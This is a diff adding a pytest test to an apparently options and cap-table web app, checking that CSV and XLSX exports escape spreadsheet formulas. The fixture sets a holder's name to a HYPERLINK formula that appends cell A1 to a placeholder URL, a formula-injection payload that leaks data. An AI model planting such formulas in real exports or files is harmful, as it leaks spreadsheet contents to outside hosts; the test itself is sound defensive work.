@@ -155,3 +155,26 @@ def test_a_holder_cannot_reach_another_holders_confirmation(env: Env) -> None:
     r = c.post("/options/ATG-2/act/exercise-notice", data={"csrf_token": csrf, "confirm_token": token})
     assert r.status_code == 404 and env.count() == before
     assert not re.search(r"Northbridge", r.text)
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_holders_own_name_cannot_plant_a_formula_in_the_companys_export(env: Env, kind: str) -> None:
+    from datetime import date
+
+    import openpyxl
+
+    gssf = Principal("gssf", "holder", "gssf")
+    evil = "\n=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"
+    env.app.state.book.record(gssf, ev.HolderRegistered(id="gssf-rename", on=date(2006, 12, 29), actor="holder:gssf", holder=Holder(
+        id="gssf", name=evil, address=Address(("c/o Illustrative Fund Services", "New York, NY 10022")))))
+    for path in ("/exports/options", "/companies/atg/captable", "/holders/gssf/captable"):
+        r = page(env, "atg", f"{path}.{kind}")
+        assert r.status_code == 200, (path, r.text[:200])
+        if kind == "csv":
+            cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
+        else:
+            wb = openpyxl.load_workbook(io.BytesIO(r.content))
+            cells = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+            assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
+        named = [c for c in cells if "HYPERLINK" in c]
+        assert named and all(c.startswith("'") for c in named), (path, named)
